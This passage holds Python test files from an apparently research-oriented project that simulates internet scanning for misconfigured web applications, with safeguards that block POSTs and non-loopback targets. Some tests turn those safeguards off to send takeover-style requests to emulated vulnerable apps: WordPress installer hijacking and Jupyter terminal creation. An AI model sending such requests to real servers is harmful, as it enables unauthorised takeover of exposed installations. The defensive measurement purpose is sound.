        assert batched.probe_ports(host.ip, ports) == [
            port for port in ports if per_port.syn_probe(host.ip, port)
        ]

    def test_counts_one_probe_per_port(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        transport.probe_ports(host.ip, (22, 80, 443))
        assert transport.stats.syn_probes == 3

    def test_dead_address_probes_in_one_lookup(self):
        transport = InMemoryTransport(SimulatedInternet())
        assert transport.probe_ports(IPv4Address.parse("52.1.2.3"), (80, 443)) == []
        assert transport.stats.syn_probes == 2


class TestFork:
    def test_fork_gets_private_stats(self, small_internet):
        internet, host = small_internet
        parent = InMemoryTransport(internet)
        child = parent.fork(shard_seed=12345)
        child.syn_probe(host.ip, 80)
        assert child.stats.syn_probes == 1
        assert parent.stats.syn_probes == 0

    def test_fork_preserves_ethics_setting(self, small_internet):
        internet, _host = small_internet
        parent = InMemoryTransport(internet, enforce_ethics=False)
        assert parent.fork(shard_seed=1).enforce_ethics is False

    def test_base_transport_fork_is_abstract(self):
        from repro.net.transport import Transport

        class Custom(Transport):
            def _port_open(self, ip, port):
                return False

            def _exchange(self, ip, port, scheme, request):
                raise NotImplementedError

        with pytest.raises(NotImplementedError):
            Custom().fork(shard_seed=1)


class TestStatsMerge:
    def test_merge_sums_counters_and_blocks(self, small_internet):
        internet, host = small_internet
        a = InMemoryTransport(internet)
        b = InMemoryTransport(internet)
        a.syn_probe(host.ip, 80)
        a.get(host.ip, 80, "/wp-login.php")
        b.syn_probe(host.ip, 80)
        b.get(host.ip, 80, "/wp-login.php")
        merged_probes = a.stats.syn_probes + b.stats.syn_probes
        a.stats.merge(b.stats)
        assert a.stats.syn_probes == merged_probes
        block = host.ip.value & 0xFFFFFF00
        assert a.stats.requests_per_slash24[block] == 2 * b.stats.requests_per_slash24[block]

    def test_dict_round_trip(self, small_internet):
        from repro.net.transport import TransportStats

        internet, host = small_internet
        transport = InMemoryTransport(internet)
        transport.syn_probe(host.ip, 80)
        transport.get(host.ip, 80, "/wp-login.php")
        restored = TransportStats.from_dict(transport.stats.to_dict())
        assert restored.to_dict() == transport.stats.to_dict()
        assert restored.requests_per_slash24 == transport.stats.requests_per_slash24
