"""Tests for the transport abstraction and its ethics enforcement."""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.net.host import Host, HostKind, Service
from repro.net.http import HttpRequest, HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import EthicsViolation, InMemoryTransport
from repro.util.errors import TransportError


@pytest.fixture()
def small_internet():
    internet = SimulatedInternet()
    host = Host(IPv4Address.parse("203.0.113.10"), HostKind.AWE)
    app = create_instance("wordpress", vulnerable=True)
    host.add_service(Service(80, app=AppInstance(app, 80)))
    internet.add_host(host)
    return internet, host


class TestEthicsEnforcement:
    def test_post_refused_during_scan(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        with pytest.raises(EthicsViolation):
            transport.request(host.ip, 80, Scheme.HTTP, HttpRequest.post("/x"))

    def test_get_allowed(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        response = transport.request(
            host.ip, 80, Scheme.HTTP, HttpRequest.get("/wp-admin/install.php")
        )
        assert response.status == 200

    def test_enforcement_can_be_disabled_for_honeypots(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet, enforce_ethics=False)
        response = transport.request(
            host.ip, 80, Scheme.HTTP,
            HttpRequest.post("/wp-admin/install.php", "admin_password=x"),
        )
        assert response.status == 200


class TestRedirectFollowing:
    def test_follows_local_redirect(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        # Vulnerable WordPress redirects / to the installer.
        response = transport.get(host.ip, 80, "/")
        assert "Installation" in response.body

    def test_redirect_limit(self):
        internet = SimulatedInternet()
        host = Host(IPv4Address.parse("203.0.113.11"))
        host.add_service(
            Service(80, responder=lambda r: HttpResponse.redirect(r.path))
        )
        internet.add_host(host)
        transport = InMemoryTransport(internet)
        response = transport.get(host.ip, 80, "/loop", follow_redirects=3)
        assert response.is_redirect  # gave up, returned last redirect

    def test_cross_host_redirect_not_followed(self):
        internet = SimulatedInternet()
        host = Host(IPv4Address.parse("203.0.113.12"))
        host.add_service(
            Service(
                80,
                responder=lambda r: HttpResponse.redirect("http://93.184.216.34/"),
            )
        )
        internet.add_host(host)
        transport = InMemoryTransport(internet)
        response = transport.get(host.ip, 80, "/")
        assert response.is_redirect  # stopped at the cross-host hop

    def test_same_host_absolute_redirect_followed(self):
        internet = SimulatedInternet()
        ip = IPv4Address.parse("203.0.113.13")
        host = Host(ip)

        def responder(request):
            if request.path == "/":
                return HttpResponse.redirect(f"http://{ip}/landed")
            return HttpResponse.ok("landed")

        host.add_service(Service(80, responder=responder))
        internet.add_host(host)
        response = InMemoryTransport(internet).get(ip, 80, "/")
        assert response.body == "landed"


class TestStats:
    def test_probe_and_request_counted(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        transport.syn_probe(host.ip, 80)
        transport.get(host.ip, 80, "/wp-login.php")
        assert transport.stats.syn_probes == 1
        assert transport.stats.http_requests >= 1

    def test_per_slash24_accounting(self, small_internet):
        internet, host = small_internet
        transport = InMemoryTransport(internet)
        transport.get(host.ip, 80, "/wp-login.php")
        block = host.ip.value & 0xFFFFFF00
        assert transport.stats.requests_per_slash24[block] >= 1


def test_dark_address_raises_transport_error():
    transport = InMemoryTransport(SimulatedInternet())
    with pytest.raises(TransportError):
        transport.get(IPv4Address.parse("198.18.0.1"), 80, "/")
