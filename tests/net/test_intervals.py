"""Tests for interval-compressed populations."""

import pytest

from repro.net.intervals import (
    BLOCK_SIZE,
    CompressedPopulation,
    IntervalSet,
    reserved_intervals,
)
from repro.net.ipv4 import MAX_IPV4, IPv4Address, is_reserved
from repro.net.network import SimulatedInternet
from repro.net.population import PopulationModel, generate_internet


class TestConstruction:
    def test_runs_are_merged_and_sorted(self):
        s = IntervalSet([(20, 30), (0, 9), (10, 15)])
        assert s.runs == ((0, 15), (20, 30))

    def test_overlapping_runs_merge(self):
        s = IntervalSet([(0, 100), (50, 200)])
        assert s.runs == ((0, 200),)

    def test_from_values_compresses_contiguous(self):
        s = IntervalSet.from_values([5, 1, 2, 3, 9, 4])
        assert s.runs == ((1, 5), (9, 9))

    def test_from_values_accepts_addresses(self):
        ip = IPv4Address.parse("10.0.0.1")
        s = IntervalSet.from_values([ip, ip.value + 1])
        assert s.runs == ((ip.value, ip.value + 1),)

    def test_from_cidrs(self):
        s = IntervalSet.from_cidrs(["203.0.113.0/24"])
        first = IPv4Address.parse("203.0.113.0").value
        assert s.runs == ((first, first + 255),)
        assert len(s) == 256

    def test_invalid_run_rejected(self):
        with pytest.raises(ValueError):
            IntervalSet([(10, 5)])
        with pytest.raises(ValueError):
            IntervalSet([(0, MAX_IPV4 + 1)])


class TestAlgebra:
    def test_union(self):
        a = IntervalSet([(0, 10)])
        b = IntervalSet([(5, 20), (30, 40)])
        assert a.union(b).runs == ((0, 20), (30, 40))

    def test_intersect(self):
        a = IntervalSet([(0, 10), (20, 30)])
        b = IntervalSet([(5, 25)])
        assert a.intersect(b).runs == ((5, 10), (20, 25))

    def test_difference_splits_runs(self):
        a = IntervalSet([(0, 100)])
        b = IntervalSet([(10, 20), (40, 50)])
        assert a.difference(b).runs == ((0, 9), (21, 39), (51, 100))

    def test_difference_is_relative_complement(self):
        a = IntervalSet([(0, 50)])
        assert a.difference(a).runs == ()
        assert a.difference(IntervalSet()) == a

    def test_equality_is_structural(self):
        assert IntervalSet([(0, 5), (6, 10)]) == IntervalSet([(0, 10)])


class TestQueries:
    def test_membership(self):
        s = IntervalSet([(10, 20), (40, 40)])
        assert 10 in s and 20 in s and 40 in s
        assert 9 not in s and 21 not in s and 39 not in s
        assert IPv4Address(15) in s

    def test_values_in_range(self):
        s = IntervalSet([(10, 12), (20, 22)])
        assert s.values_in(11, 21) == [11, 12, 20, 21]
        assert s.values_in(0, 5) == []

    def test_count_in_matches_values_in(self):
        s = IntervalSet([(10, 12), (20, 22), (300, 600)])
        for lo, hi in [(0, 1000), (11, 21), (250, 310), (601, 700)]:
            assert s.count_in(lo, hi) == len(s.values_in(lo, hi))

    def test_take_lowest(self):
        s = IntervalSet([(10, 12), (20, 29)])
        assert s.take(5).runs == ((10, 12), (20, 21))
        assert s.take(0) == IntervalSet()
        assert s.take(100) == s


class TestBlockViews:
    def test_block_bases_cross_boundaries(self):
        s = IntervalSet([(200, 600)])  # spans blocks 0, 256, 512
        assert s.block_bases() == [0, 256, 512]

    def test_block_values(self):
        s = IntervalSet([(200, 600)])
        assert s.block_values(256) == list(range(256, 512))
        assert s.block_values(0) == list(range(200, 256))

    def test_block_counts_matches_block_values(self):
        s = IntervalSet([(200, 600), (1000, 1001), (5000, 9000)])
        counts = s.block_counts()
        assert list(counts) == s.block_bases()  # ascending insertion order
        for base in s.block_bases():
            assert counts[base] == len(s.block_values(base))
        assert sum(counts.values()) == len(s)

    def test_block_counts_merges_runs_in_one_block(self):
        s = IntervalSet([(10, 20), (30, 40)])
        assert s.block_counts() == {0: 22}


class TestSerialisation:
    def test_round_trip(self):
        s = IntervalSet([(0, 10), (300, 5000)])
        assert IntervalSet.from_dict(s.to_dict()) == s


class TestReservedIntervals:
    def test_agrees_with_is_reserved(self):
        reserved = reserved_intervals()
        for text in ["0.0.0.0", "10.0.0.1", "127.0.0.1", "224.0.0.1", "8.8.8.8"]:
            ip = IPv4Address.parse(text)
            assert (ip.value in reserved) == is_reserved(ip)


class TestCompressedPopulation:
    @pytest.fixture(scope="class")
    def world(self):
        return generate_internet(
            PopulationModel(awe_rate=0.002, vuln_rate=0.05, background_rate=2e-7)
        )

    def test_build_hits_target_size(self, world):
        internet, _, _ = world
        pop = CompressedPopulation.build(internet, 2_000_000, seed=7)
        assert pop.address_count == 2_000_000

    def test_target_below_populated_floor_keeps_every_block(self, world):
        internet, _, _ = world
        pop = CompressedPopulation.build(internet, 1, seed=7)
        # The frame never drops a populated /24 to meet the target.
        blocks = {ip.value & 0xFFFFFF00 for ip in internet.populated_addresses()}
        assert pop.address_count == 256 * len(blocks)

    def test_frame_covers_every_populated_block(self, world):
        internet, _, _ = world
        pop = CompressedPopulation.build(internet, 2_000_000, seed=7)
        for ip in internet.populated_addresses():
            assert ip.value in pop.frame
            assert ip.value & ~(BLOCK_SIZE - 1) in pop.frame

    def test_filler_avoids_reserved_space(self, world):
        internet, _, _ = world
        pop = CompressedPopulation.build(internet, 2_000_000, seed=7)
        assert pop.frame.intersect(reserved_intervals()) == IntervalSet()

    def test_deterministic_per_seed(self, world):
        internet, _, _ = world
        a = CompressedPopulation.build(internet, 2_000_000, seed=1)
        b = CompressedPopulation.build(internet, 2_000_000, seed=1)
        c = CompressedPopulation.build(internet, 2_000_000, seed=2)
        assert a.frame == b.frame
        assert a.frame != c.frame

    def test_live_values_ascending_and_in_frame(self, world):
        internet, _, _ = world
        pop = CompressedPopulation.build(internet, 2_000_000, seed=1)
        live = pop.live_values()
        assert live == sorted(live)
        assert len(live) == len(internet.populated_addresses())

    def test_empty_internet_is_pure_filler(self):
        pop = CompressedPopulation.build(SimulatedInternet(), 10_000, seed=3)
        assert pop.address_count == 10_000
        assert pop.live_values() == []
