"""Tests for the IP metadata service."""

import random
from collections import Counter

from repro.net.geo import (
    ATTACKER_PROFILE,
    BACKGROUND_HOST_PROFILE,
    VULNERABLE_HOST_PROFILE,
    GeoDatabase,
    IpMetadata,
)
from repro.net.ipv4 import IPv4Address


class TestGeoDatabase:
    def test_assign_then_lookup(self):
        geo = GeoDatabase()
        ip = IPv4Address.parse("203.0.113.1")
        assigned = geo.assign(ip, random.Random(0), VULNERABLE_HOST_PROFILE)
        assert geo.lookup(ip) == assigned

    def test_assign_fixed(self):
        geo = GeoDatabase()
        ip = IPv4Address.parse("203.0.113.2")
        metadata = IpMetadata("Narnia", "AS1", "Wardrobe", True)
        geo.assign_fixed(ip, metadata)
        assert geo.lookup(ip) == metadata

    def test_unknown_ip_gets_stable_fallback(self):
        geo = GeoDatabase()
        ip = IPv4Address.parse("8.8.4.4")
        assert geo.lookup(ip) == geo.lookup(ip)
        assert geo.lookup(ip).country  # never empty

    def test_len_counts_registrations(self):
        geo = GeoDatabase()
        geo.assign(IPv4Address(1000), random.Random(0), BACKGROUND_HOST_PROFILE)
        geo.assign(IPv4Address(1001), random.Random(0), BACKGROUND_HOST_PROFILE)
        assert len(geo) == 2


class TestProfiles:
    def _draw(self, profile, n=4000):
        geo = GeoDatabase()
        rng = random.Random(99)
        records = [
            geo.assign(IPv4Address(i + 10), rng, profile) for i in range(n)
        ]
        return records

    def test_vulnerable_profile_matches_table4_shape(self):
        records = self._draw(VULNERABLE_HOST_PROFILE)
        countries = Counter(r.country for r in records)
        # Table 4: US first, China second, both far ahead of the rest.
        assert countries.most_common(1)[0][0] == "United States"
        assert countries["United States"] > countries["China"] > countries["Germany"]

    def test_vulnerable_profile_hosting_share(self):
        records = self._draw(VULNERABLE_HOST_PROFILE)
        hosting = sum(1 for r in records if r.is_hosting) / len(records)
        # The paper: ~64% of vulnerable hosts in dedicated hosting networks.
        assert 0.55 < hosting < 0.75

    def test_attacker_profile_top_ases(self):
        records = self._draw(ATTACKER_PROFILE)
        ases = Counter(r.provider for r in records)
        top3 = {name for name, _count in ases.most_common(3)}
        # Table 8's leaders must dominate the attacker mix.
        assert "Serverion BV" in top3
        assert "Gamers Club" in top3

    def test_attacker_profile_digitalocean_spreads_countries(self):
        records = self._draw(ATTACKER_PROFILE)
        do_countries = {r.country for r in records if r.provider == "DigitalOcean"}
        assert len(do_countries) >= 3  # Table 8: DO spans 14 countries
