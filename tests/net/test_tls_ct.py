"""Tests for the TLS certificate model and the CT log substrate."""

import random

import pytest

from repro.net.ct import CertificateTransparencyLog
from repro.net.tls import (
    Certificate,
    deterministic_certificate,
    generate_domain,
    issue_certificate,
)


class TestCertificate:
    def test_domains_dedup_cn_first(self):
        cert = Certificate("a.example", ("a.example", "www.a.example"), 0.0, "R3")
        assert cert.domains == ("a.example", "www.a.example")

    def test_contact_domain(self):
        cert = Certificate("shop.example", ("www.shop.example",), 0.0, "R3")
        assert cert.contact_domain() == "shop.example"

    def test_wildcard_stripped(self):
        cert = Certificate("*.shop.example", (), 0.0, "R3")
        assert cert.contact_domain() == "shop.example"

    def test_self_signed_has_no_contact(self):
        cert = Certificate("localhost", (), 0.0, "self", self_signed=True)
        assert cert.contact_domain() is None

    def test_ip_literal_cn_has_no_contact(self):
        cert = Certificate("10.0.0.1", (), 0.0, "R3")
        assert cert.contact_domain() is None


class TestIssuance:
    def test_domains_use_reserved_tlds(self):
        rng = random.Random(0)
        for _ in range(50):
            domain = generate_domain(rng)
            assert domain.rsplit(".", 1)[1] in ("example", "test", "invalid")

    def test_self_signed_chance(self):
        rng = random.Random(1)
        certs = [issue_certificate(rng) for _ in range(400)]
        self_signed = sum(1 for c in certs if c.self_signed)
        assert 0.15 < self_signed / len(certs) < 0.35

    def test_ca_issued_has_sans(self):
        cert = issue_certificate(random.Random(2), self_signed_chance=0.0)
        assert cert.subject_alt_names
        assert not cert.self_signed

    def test_deterministic_certificate(self):
        assert deterministic_certificate(("x", 1)) == deterministic_certificate(("x", 1))
        assert deterministic_certificate(("x", 1)) != deterministic_certificate(("x", 2))


class TestCtLog:
    def test_self_signed_never_logged(self):
        log = CertificateTransparencyLog()
        cert = Certificate("localhost", (), 0.0, "self", self_signed=True)
        assert log.submit(cert, 1.0) is None
        assert len(log) == 0

    def test_append_only_time_order(self):
        log = CertificateTransparencyLog()
        cert = issue_certificate(random.Random(0), self_signed_chance=0.0)
        log.submit(cert, 10.0)
        with pytest.raises(ValueError):
            log.submit(cert, 5.0)

    def test_entries_between(self):
        log = CertificateTransparencyLog()
        rng = random.Random(3)
        for t in (1.0, 2.0, 3.0, 4.0):
            log.submit(issue_certificate(rng, self_signed_chance=0.0), t)
        window = log.entries_between(1.0, 3.0)
        assert [e.logged_at for e in window] == [2.0, 3.0]

    def test_indices_monotonic(self):
        log = CertificateTransparencyLog()
        rng = random.Random(4)
        for t in range(5):
            log.submit(issue_certificate(rng, self_signed_chance=0.0), float(t))
        assert [e.index for e in log.entries] == list(range(5))


class TestCertificatesOnTheWire:
    def test_https_service_presents_certificate(self):
        from repro.apps.base import AppInstance
        from repro.apps.catalog import create_instance
        from repro.net.host import Host, Service
        from repro.net.http import Scheme
        from repro.net.ipv4 import IPv4Address
        from repro.net.network import SimulatedInternet
        from repro.net.transport import InMemoryTransport

        internet = SimulatedInternet()
        ip = IPv4Address.parse("93.184.216.77")
        host = Host(ip)
        cert = issue_certificate(random.Random(5), self_signed_chance=0.0)
        host.add_service(
            Service(443, frozenset({Scheme.HTTPS}),
                    app=AppInstance(create_instance("wordpress"), 443, tls=True),
                    certificate=cert)
        )
        internet.add_host(host)
        transport = InMemoryTransport(internet)
        assert transport.fetch_certificate(ip, 443) == cert
        assert transport.fetch_certificate(ip, 80) is None

    def test_http_only_service_has_no_certificate(self):
        from repro.apps.base import AppInstance
        from repro.apps.catalog import create_instance
        from repro.net.host import Host, Service
        from repro.net.ipv4 import IPv4Address

        host = Host(IPv4Address.parse("93.184.216.78"))
        host.add_service(
            Service(80, app=AppInstance(create_instance("wordpress"), 80))
        )
        assert host.certificate_on(80) is None

    def test_population_issues_certificates(self, tiny_internet):
        internet, _geo, _census = tiny_internet
        with_cert = sum(
            1
            for host in internet.hosts()
            for service in host.services.values()
            if service.certificate is not None
        )
        assert with_cert > 10
