"""Tests for the census-calibrated population generator."""

import pytest

from repro.apps.catalog import app_by_slug
from repro.net.host import HostKind
from repro.net.population import (
    PAPER_PREVALENCE,
    Census,
    PopulationModel,
    generate_internet,
)
from repro.util.errors import ConfigError


class TestPopulationModel:
    def test_invalid_rates_rejected(self):
        with pytest.raises(ConfigError):
            PopulationModel(awe_rate=0.0)
        with pytest.raises(ConfigError):
            PopulationModel(vuln_rate=1.5)

    def test_paper_prevalence_totals(self):
        # Table 3's totals: ~2.5M AWE hosts, exactly 4,221 MAVs.
        assert sum(p.exposed_hosts for p in PAPER_PREVALENCE) == 2_507_526
        assert sum(p.mavs for p in PAPER_PREVALENCE) == 4_221


class TestGeneration:
    @pytest.fixture(scope="class")
    def generated(self):
        model = PopulationModel(
            awe_rate=0.002, vuln_rate=0.25, background_rate=2e-7
        )
        return model, generate_internet(model)

    def test_vulnerable_count_scales(self, generated):
        model, (internet, geo, census) = generated
        vulnerable = internet.true_vulnerable_hosts()
        expected = sum(p.mavs for p in PAPER_PREVALENCE) * model.vuln_rate
        assert abs(len(vulnerable) - expected) < 0.15 * expected

    def test_full_vuln_rate_is_exact(self, tiny_internet):
        # conftest's tiny_internet uses vuln_rate=0.05; the calibrated
        # fixture elsewhere checks 4,221.  Here: counts are consistent
        # with the census bookkeeping.
        internet, geo, census = tiny_internet
        generated = sum(census.generated_vulnerable.values())
        assert len(internet.true_vulnerable_hosts()) == generated

    def test_census_weights_present_for_all_hosts(self, generated):
        _model, (internet, geo, census) = generated
        for host in internet.hosts():
            assert census.weight_of(host.ip) > 0

    def test_weights_reflect_strata(self, generated):
        model, (internet, geo, census) = generated
        for host in internet.true_vulnerable_hosts():
            assert census.weight_of(host.ip) == pytest.approx(1 / model.vuln_rate)

    def test_vulnerable_hosts_actually_vulnerable(self, generated):
        _model, (internet, geo, census) = generated
        for host in internet.true_vulnerable_hosts():
            assert any(inst.app.is_vulnerable() for inst in host.apps())

    def test_secure_hosts_not_vulnerable(self, generated):
        _model, (internet, geo, census) = generated
        vulnerable_ips = {h.ip.value for h in internet.true_vulnerable_hosts()}
        for host in internet.awe_hosts():
            if host.ip.value not in vulnerable_ips:
                assert not host.has_vulnerable_app()

    def test_apps_sit_on_their_default_ports(self, generated):
        _model, (internet, geo, census) = generated
        for host in internet.awe_hosts():
            for instance in host.apps():
                spec = app_by_slug(instance.slug)
                assert instance.port in spec.default_ports

    def test_middleboxes_generated(self):
        # At 2e-6 the expected middlebox count is 6; presence is near-sure.
        model = PopulationModel(
            awe_rate=0.0005, vuln_rate=0.01, background_rate=2e-6, seed=11
        )
        internet, _geo, _census = generate_internet(model)
        kinds = {h.kind for h in internet.hosts()}
        assert HostKind.MIDDLEBOX in kinds

    def test_geo_registered_for_all_hosts(self, generated):
        _model, (internet, geo, census) = generated
        assert len(geo) >= len(internet)

    def test_versions_are_known_releases(self, generated):
        from repro.apps.versions import RELEASE_DB

        _model, (internet, geo, census) = generated
        for host in internet.awe_hosts():
            for instance in host.apps():
                assert RELEASE_DB.is_known_version(instance.slug, instance.app.version)

    def test_determinism(self):
        model = PopulationModel(awe_rate=0.001, vuln_rate=0.02,
                                background_rate=1e-7, seed=77)
        first, _, _ = generate_internet(model)
        second, _, _ = generate_internet(model)
        assert sorted(h.ip.value for h in first.hosts()) == sorted(
            h.ip.value for h in second.hosts()
        )

    def test_changed_default_mavs_skew_old(self):
        """80% of vulnerable Jupyter Notebooks run pre-4.3 releases."""
        from repro.apps.versions import RELEASE_DB

        model = PopulationModel(awe_rate=0.001, vuln_rate=1.0,
                                background_rate=1e-7, seed=5,
                                include_background=False,
                                include_middleboxes=False,
                                include_out_of_scope=False)
        internet, _, _ = generate_internet(model)
        cutoff = RELEASE_DB.release_date("jupyter-notebook", "4.3")
        old = new = 0
        for host in internet.hosts_running("jupyter-notebook"):
            app = host.app_instance("jupyter-notebook")
            if not app.is_vulnerable():
                continue
            if RELEASE_DB.release_date("jupyter-notebook", app.version) < cutoff:
                old += 1
            else:
                new += 1
        assert old + new > 100
        assert 0.7 < old / (old + new) < 0.9


class TestCensus:
    def test_weight_of_unknown_is_zero(self):
        census = Census(PopulationModel())
        from repro.net.ipv4 import IPv4Address

        assert census.weight_of(IPv4Address(123)) == 0.0
