"""Tests for IPv4 addresses and CIDR networks."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.net.ipv4 import (
    MAX_IPV4,
    IPv4Address,
    IPv4Network,
    iana_reserved_networks,
    is_reserved,
    scannable_address_count,
)


class TestIPv4Address:
    def test_parse_and_str_roundtrip(self):
        assert str(IPv4Address.parse("192.0.2.1")) == "192.0.2.1"

    def test_octets(self):
        assert IPv4Address.parse("10.20.30.40").octets == (10, 20, 30, 40)

    def test_int_conversion(self):
        assert int(IPv4Address.parse("0.0.0.1")) == 1
        assert int(IPv4Address.parse("255.255.255.255")) == MAX_IPV4

    def test_ordering_follows_numeric_value(self):
        assert IPv4Address.parse("1.0.0.0") < IPv4Address.parse("2.0.0.0")

    def test_slash24(self):
        assert str(IPv4Address.parse("198.51.100.77").slash24) == "198.51.100.0/24"

    @pytest.mark.parametrize(
        "bad", ["1.2.3", "1.2.3.4.5", "256.1.1.1", "a.b.c.d", "", "1..2.3"]
    )
    def test_parse_rejects_garbage(self, bad):
        with pytest.raises(ValueError):
            IPv4Address.parse(bad)

    def test_out_of_range_int_rejected(self):
        with pytest.raises(ValueError):
            IPv4Address(MAX_IPV4 + 1)
        with pytest.raises(ValueError):
            IPv4Address(-1)

    @given(st.integers(min_value=0, max_value=MAX_IPV4))
    def test_str_parse_roundtrip_property(self, value):
        address = IPv4Address(value)
        assert IPv4Address.parse(str(address)) == address


class TestIPv4Network:
    def test_parse(self):
        network = IPv4Network.parse("10.0.0.0/8")
        assert network.prefix == 8
        assert network.size == 2**24

    def test_contains(self):
        network = IPv4Network.parse("192.168.0.0/16")
        assert IPv4Address.parse("192.168.5.5") in network
        assert IPv4Address.parse("192.169.0.0") not in network

    def test_first_last(self):
        network = IPv4Network.parse("10.0.0.0/30")
        assert str(network.first) == "10.0.0.0"
        assert str(network.last) == "10.0.0.3"

    def test_host_bits_rejected(self):
        with pytest.raises(ValueError):
            IPv4Network.parse("10.0.0.1/8")

    def test_invalid_prefix_rejected(self):
        with pytest.raises(ValueError):
            IPv4Network(IPv4Address(0), 33)

    def test_addresses_enumeration(self):
        network = IPv4Network.parse("192.0.2.0/30")
        assert [str(a) for a in network.addresses()] == [
            "192.0.2.0", "192.0.2.1", "192.0.2.2", "192.0.2.3",
        ]

    def test_subnets_24(self):
        subnets = list(IPv4Network.parse("10.0.0.0/22").subnets_24())
        assert len(subnets) == 4
        assert all(s.prefix == 24 for s in subnets)

    def test_subnets_24_rejects_smaller(self):
        with pytest.raises(ValueError):
            list(IPv4Network.parse("10.0.0.0/30").subnets_24())

    @given(st.integers(min_value=0, max_value=MAX_IPV4), st.integers(0, 32))
    def test_contains_consistent_with_range(self, value, prefix):
        base = IPv4Address(value & ((0xFFFFFFFF << (32 - prefix)) & 0xFFFFFFFF))
        network = IPv4Network(base, prefix)
        assert network.contains(network.first)
        assert network.contains(network.last)


class TestReservedRanges:
    def test_private_ranges_reserved(self):
        for ip in ("10.1.2.3", "172.16.0.1", "192.168.1.1", "127.0.0.1"):
            assert is_reserved(IPv4Address.parse(ip)), ip

    def test_multicast_and_future_reserved(self):
        assert is_reserved(IPv4Address.parse("224.0.0.1"))
        assert is_reserved(IPv4Address.parse("240.0.0.1"))

    def test_public_not_reserved(self):
        for ip in ("8.8.8.8", "93.184.216.34", "52.0.0.1"):
            assert not is_reserved(IPv4Address.parse(ip)), ip

    def test_reserved_networks_do_not_overlap(self):
        networks = iana_reserved_networks()
        for i, a in enumerate(networks):
            for b in networks[i + 1:]:
                assert not (a.contains(b.first) or b.contains(a.first)), (a, b)

    def test_scannable_count_roughly_3_5_billion(self):
        # The paper: excluding reserved allocations leaves ~3.5B addresses.
        count = scannable_address_count()
        assert 3.3e9 < count < 3.7e9
