"""Tests for the real-socket loopback server and transport."""

import pytest

from repro.apps.catalog import create_instance
from repro.net.http import HttpRequest, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.server import LocalAppServer, SocketTransport
from repro.net.transport import EthicsViolation
from repro.util.errors import ConfigError


@pytest.fixture()
def jupyter_server():
    app = create_instance("jupyter-notebook", vulnerable=True)
    with LocalAppServer(app) as server:
        yield server


class TestLocalAppServer:
    def test_serves_emulator_over_real_tcp(self, jupyter_server):
        transport = SocketTransport()
        response = transport.get(jupyter_server.ip, jupyter_server.port, "/api/terminals")
        assert response.status == 200
        assert "Jupyter Notebook" in response.body

    def test_syn_probe_against_real_socket(self, jupyter_server):
        transport = SocketTransport()
        assert transport.syn_probe(jupyter_server.ip, jupyter_server.port)
        assert not transport.syn_probe(jupyter_server.ip, 1)  # closed port

    def test_post_round_trip_with_ethics_disabled(self, jupyter_server):
        transport = SocketTransport(enforce_ethics=False)
        response = transport.request(
            jupyter_server.ip,
            jupyter_server.port,
            Scheme.HTTP,
            HttpRequest.post("/api/terminals"),
        )
        assert response.status == 201

    def test_ethics_enforced_by_default(self, jupyter_server):
        transport = SocketTransport()
        with pytest.raises(EthicsViolation):
            transport.request(
                jupyter_server.ip,
                jupyter_server.port,
                Scheme.HTTP,
                HttpRequest.post("/api/terminals"),
            )


class TestSocketTransportSafety:
    def test_refuses_non_loopback(self):
        transport = SocketTransport()
        with pytest.raises(ConfigError):
            transport.syn_probe(IPv4Address.parse("93.184.216.34"), 80)

    def test_refuses_non_loopback_get(self):
        transport = SocketTransport()
        with pytest.raises(ConfigError):
            transport.get(IPv4Address.parse("8.8.8.8"), 80, "/")


class TestPipelineOverRealSockets:
    def test_tsunami_plugin_detects_over_tcp(self, jupyter_server):
        """The same plugin logic works against a real socket."""
        from repro.core.tsunami.plugin import PluginContext
        from repro.core.tsunami.plugins import plugin_for

        transport = SocketTransport()
        context = PluginContext(
            transport, jupyter_server.ip, jupyter_server.port, Scheme.HTTP
        )
        report = plugin_for("jupyter-notebook").detect(context)
        assert report is not None

    def test_secured_instance_not_flagged_over_tcp(self):
        from repro.core.tsunami.plugin import PluginContext
        from repro.core.tsunami.plugins import plugin_for

        app = create_instance("jupyter-notebook")  # secure default
        with LocalAppServer(app) as server:
            transport = SocketTransport()
            context = PluginContext(transport, server.ip, server.port, Scheme.HTTP)
            assert plugin_for("jupyter-notebook").detect(context) is None
