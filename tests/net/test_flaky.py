"""Tests for the failure-injecting transport."""

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.net.flaky import FlakyTransport
from repro.net.host import Host, Service
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport
from repro.util.errors import TransportError


@pytest.fixture()
def world():
    internet = SimulatedInternet()
    ip = IPv4Address.parse("93.184.216.80")
    host = Host(ip)
    host.add_service(
        Service(8192, app=AppInstance(create_instance("polynote"), 8192))
    )
    internet.add_host(host)
    return internet, ip


class TestFlakyTransport:
    def test_zero_loss_is_transparent(self, world):
        internet, ip = world
        transport = FlakyTransport(InMemoryTransport(internet))
        assert transport.syn_probe(ip, 8192)
        assert transport.get(ip, 8192, "/").status == 200
        assert transport.dropped_probes == 0

    def test_total_loss_blackholes_everything(self, world):
        internet, ip = world
        transport = FlakyTransport(
            InMemoryTransport(internet), syn_loss=1.0, request_loss=1.0
        )
        assert not transport.syn_probe(ip, 8192)
        with pytest.raises(TransportError):
            transport.get(ip, 8192, "/")
        assert transport.dropped_probes == 1
        assert transport.dropped_requests == 1

    def test_partial_loss_statistics(self, world):
        internet, ip = world
        transport = FlakyTransport(
            InMemoryTransport(internet), syn_loss=0.5, seed=9
        )
        results = [transport.syn_probe(ip, 8192) for _ in range(400)]
        open_rate = sum(results) / len(results)
        assert 0.4 < open_rate < 0.6

    def test_invalid_rates_rejected(self, world):
        internet, _ip = world
        with pytest.raises(ValueError):
            FlakyTransport(InMemoryTransport(internet), syn_loss=1.5)

    def test_deterministic_per_seed(self, world):
        internet, ip = world
        runs = []
        for _ in range(2):
            transport = FlakyTransport(
